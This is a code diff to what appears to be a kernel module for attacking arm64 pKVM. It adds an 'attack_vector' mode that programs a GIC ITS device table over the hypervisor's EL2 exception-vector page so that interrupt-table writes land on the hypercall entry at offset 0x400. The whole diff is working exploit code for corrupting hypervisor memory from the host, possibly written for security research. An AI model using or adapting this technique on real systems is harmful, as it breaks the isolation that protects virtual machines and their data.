@@ -14,6 +14,7 @@
 #include <linux/stop_machine.h>
 #include <linux/uaccess.h>
 
+#include <asm/kvm_asm.h>
 #include <asm/kvm_pkvm.h>
 
 /* Their pending bits begin at byte 0x600 of a pending table, one byte each. */
@@ -58,6 +59,25 @@ static int attack_itt(phys_addr_t page)
 		return ret;
 	its_send_mapd(&dev, 1);
 	attack_map_events(&dev, 0, 4);
+	its_send_mapd(&dev, 0);
+
+	return 0;
+}
+
+/* As attack_itt(), and the page is that of EL2's exception vectors: entries fall upon 0x400, where
+ * what the host calls arrives.
+ */
+static int attack_vector(phys_addr_t unused)
+{
+	phys_addr_t vector = __pa_symbol(kvm_nvhe_sym(__kvm_hyp_vector));
+	u32 entry = FIELD_GET(GITS_TYPER_ITT_ENTRY_SIZE, attack_its()->typer) + 1;
+	struct its_device dev;
+	int ret = attack_device(&dev, 0x66, vector, 256);
+
+	if (ret)
+		return ret;
+	its_send_mapd(&dev, 1);
+	attack_map_events(&dev, 0x400 / entry, 8);
 	its_send_mapd(&dev, 0);
 
 	return 0;
@@ -536,6 +556,7 @@ static const struct {
 	int (*run)(phys_addr_t page);
 } attack_kinds[] = {
 	{"itt", attack_itt},
+	{"vector", attack_vector},
 	{"tail", attack_tail},
 	{"keep", attack_keep},
 	{"kept", attack_kept},
